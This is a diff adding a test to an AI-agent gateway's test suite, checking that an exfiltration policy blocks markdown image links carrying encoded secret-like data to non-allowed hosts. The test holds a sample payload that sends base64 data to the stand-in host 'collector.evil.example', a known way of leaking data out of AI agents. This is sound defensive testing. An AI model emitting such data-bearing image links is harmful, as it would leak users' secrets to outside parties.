@@ -46,6 +46,42 @@ describe('gateway with a scan section', () => {
   });
 });
 
+describe('gateway exfiltration allow-list', () => {
+  const EXFIL = `apiVersion: warden.dev/v1
+kind: Policy
+metadata: { name: no-exfil, scope: acme }
+spec:
+  scan: { detectors: [exfiltration], on: [input] }
+  rules:
+    - { name: tools, effect: allow, match: { actions: [tool.call, tool.list] } }
+    - name: exfil
+      effect: deny
+      when: 'findings.exists(f, f.category == "exfiltration")'
+      message: The call would send data to an outside host.
+`;
+  let rt: GatewayRuntime;
+  let client: Client;
+  beforeAll(async () => {
+    rt = await runtime({ policies: [policyDir(EXFIL)], upstreams: [{ name: 'everything', command: process.execPath, args: [EVERYTHING, 'stdio'] }], allowedHosts: ['docs.acme.example'] });
+    client = await agent(rt.gateway, { agentId: 'writer' });
+  }, 60_000);
+  afterAll(async () => {
+    await rt?.close();
+  });
+
+  it('lets data-bearing images reach an allowed host and its subdomains, and denies any other host', async () => {
+    const data = 'c2VjcmV0LXRva2VuLXZhbHVlLWZyb20tdGhlLWVudmlyb25tZW50LWZvci10ZXN0aW5n';
+    const to = (host: string) => client.callTool({ name: 'echo', arguments: { message: `Status: ![chart](https://${host}/render.png?d=${data})` } });
+    expect((await to('docs.acme.example')).isError).toBeFalsy();
+    expect((await to('img.docs.acme.example')).isError).toBeFalsy();
+    const out = await to('collector.evil.example');
+    expect(out.isError).toBe(true);
+    expect(textOf(out)).toContain('send data to an outside host');
+    // A host that merely ends with the allowed name is another host.
+    expect((await to('evildocs.acme.example')).isError).toBe(true);
+  });
+});
+
 describe('gateway result events', () => {
   const ALLOW = `apiVersion: warden.dev/v1
 kind: Policy
